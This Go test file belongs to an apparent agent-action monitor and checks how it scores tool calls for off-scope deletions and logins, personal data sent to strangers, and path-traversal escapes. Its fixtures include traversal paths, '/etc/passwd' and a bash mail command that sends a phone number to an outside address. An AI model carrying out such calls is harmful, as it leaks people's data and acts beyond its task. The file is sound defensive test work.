package features

import (
	"testing"

	"github.com/dreamguard/dreamguard/verdict"
)

func TestScope(t *testing.T) {
	tr := NewTracker(nil, verdict.Task{Instruction: "Delete build/old and sign in as ci-robot-7."})
	for _, c := range []struct {
		call verdict.Call
		name string
		want float64
	}{
		{call("delete_path", `{"path": "build/old"}`), "delete_off_scope", 0},
		{call("delete_path", `{"path": "home/ann"}`), "delete_off_scope", 1},
		{call("login", `{"account": "ci-robot-7"}`), "auth_off_task", 0},
		{call("login", `{"account": "shop-admin-9"}`), "auth_off_task", 1},
	} {
		if f := get(t, tr, c.call); f[c.name] != c.want {
			t.Errorf("%s %s: %s = %v, want %v", c.call.Tool, c.call.Arguments, c.name, f[c.name], c.want)
		}
	}
}

func TestPersonalValues(t *testing.T) {
	tr := NewTracker(nil, verdict.Task{Instruction: "Write to bob@partner.example how many customers there are, call +43 1 234 56789, send me a message, and clean up tmp/export."})
	for _, c := range []struct {
		name, body     string
		labels, shapes bool
	}{
		{"aggregates", "Customers: 1448\\nSatisfied = 72.3%", false, false},
		{"label with a colon", "Home address: 54 Dietrich Street", true, false},
		{"label with a dash", "Reviewer name - Vera Abel", true, false},
		{"label without a value", "Reviewer name:", false, false},
		{"a label that the task mentions", "Customers - Vera Abel", false, false},
		{"a word far from its value", "the name of the game is to win this one before the season ends: 5", false, false},
		{"address in a text", "she reads vera@home.example", false, true},
		{"address of the task", "bob@partner.example reads it", false, false},
		{"phone number", "call +49 499 788 6977 today", false, true},
		{"a sum is no phone number", "1 + 499 78869", false, false},
		{"bank account", "to DE89370400440532013000", false, true},
		{"key", "sk_gcb196bqb54gxsazax2j6qks", false, true},
		{"a word with a number is no key", "accessibility-review-2024", false, false},
		{"nor is a UUID", "see 550e8400-e29b-41d4-a716-446655440000", false, false},
		{"nor a commit", "in 9fceb02d0ae598e95dc970b74767f19372d61af8", false, false},
		{"nor a time", "at 2026-03-01T10:15:00+01:00", false, false},
		{"phone number of the task", "call +43 (1) 234-56789", false, false},
		{"a word of the task that holds a label", "Age: 41", true, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := get(t, tr, call("send_email", `{"to": "bob@partner.example", "body": "`+c.body+`"}`))
			if (f["personal_labels"] > 0) != c.labels || (f["personal_shapes"] > 0) != c.shapes {
				t.Errorf("personal_labels %v, personal_shapes %v: want %v, %v", f["personal_labels"], f["personal_shapes"], c.labels, c.shapes)
			}
			if want := bit(c.labels || c.shapes); f["personal_leaves"] != want {
				t.Errorf("personal_leaves %v: want %v", f["personal_leaves"], want)
			}
			// An address in the text receives nothing where another argument names who does.
			if f["personal_stranger"] != 0 {
				t.Errorf("personal_stranger %v for a receiver of the task", f["personal_stranger"])
			}
		})
	}
	body := "phone: +49 499 788 6977"
	if f := get(t, tr, call("send_email", `{"to": "eve@else.example", "body": "`+body+`"}`)); f["personal_stranger"] != 1 {
		t.Errorf("personal_stranger %v for a stranger", f["personal_stranger"])
	}
	if f := get(t, tr, call("bash", `{"command": "mail -s list eve@else.example <<< '`+body+`' # run"}`)); f["personal_stranger"] != f["is_effect"] {
		t.Errorf("personal_stranger %v where no argument names the receiver, is_effect %v", f["personal_stranger"], f["is_effect"])
	}
	share := call("share_file", `{"file": "out/list.txt", "with": "bob@partner.example"}`)
	if f := get(t, tr, share); f["personal_carried"] != 0 {
		t.Errorf("before it was written: personal_carried %v", f["personal_carried"])
	}
	tr.Commit(call("write_file", `{"path": "out/list.txt", "text": "`+body+`"}`), verdict.Result{Output: "ok"})
	tr.Commit(call("copy_file", `{"from": "out/list.txt", "to": "out/copy.txt"}`), verdict.Result{Output: "ok"})
	for _, file := range []string{"out/list.txt", "out/copy.txt"} {
		if f := get(t, tr, call("share_file", `{"file": "`+file+`", "with": "bob@partner.example"}`)); f["personal_carried"] != 1 || f["personal_leaves"] != 1 {
			t.Errorf("%s: personal_carried %v, personal_leaves %v", file, f["personal_carried"], f["personal_leaves"])
		}
	}
}

func TestPathScope(t *testing.T) {
	tr := NewTracker(nil, verdict.Task{Instruction: "Remove old finance files below tmp/export, ./build/out and C:\\work\\old, ~/work, /srv/app/v1.2, /etc/app/conf.d and /srv/cache/a.bin. Then /run.sh."})
	for args, outside := range map[string]float64{
		`{"path": "tmp/export/2024/a.csv"}`:               0,
		`{"path": "./tmp//export/a.csv"}`:                 0,
		`{"path": "tmp/export"}`:                          0,
		`{"path": "build/out/x"}`:                         0,
		`{"path": "c:\\work\\old\\x.txt"}`:                0,
		`{"path": "/srv/cache/a.bin"}`:                    0,
		`{"path": "/srv/cache/b.bin"}`:                    0, // a neighbour: the file's folder
		`{"path": "/srv/cachet/b.bin"}`:                   1,
		`{"path": "/srv/other/b.bin"}`:                    1,
		`{"path": "/etc/passwd"}`:                         1, // the folder of /run.sh is everything
		`{"path": "tmp/exp/a.csv"}`:                       1,
		`{"path": "tmp/exports/a.csv"}`:                   1,
		`{"path": "tmp/export/../../x/y"}`:                1,
		`{"path": "tmp\\export\\..\\..\\x\\y"}`:           1,
		`{"path": "../tmp/export/a.csv"}`:                 1,
		`{"path": "finance/ledger.db"}`:                   1, // a word of the task is no folder
		`{"path": "/srv/app/v1.2/x"}`:                     0,
		`{"path": "/srv/app/v1.3"}`:                       1, // v1.2 is a folder and does not open its parent
		`{"path": "/etc/app/conf.e/x"}`:                   1, // nor does conf.d
		`{"path": "~/../tmp/export/a.csv"}`:               1,
		`{"path": "~/work/a.csv"}`:                        0,
		`{"path": "~/work/../b.csv"}`:                     1,
		`{"paths": ["tmp/export/a.csv", "finance/x.db"]}`: 0.5,
	} {
		if f := get(t, tr, call("delete_file", args)); f["delete_outside"] != outside || f["path_scope"] != 1-outside {
			t.Errorf("%s: delete_outside %v, path_scope %v: want %v, %v", args, f["delete_outside"], f["path_scope"], outside, 1-outside)
		}
	}
}
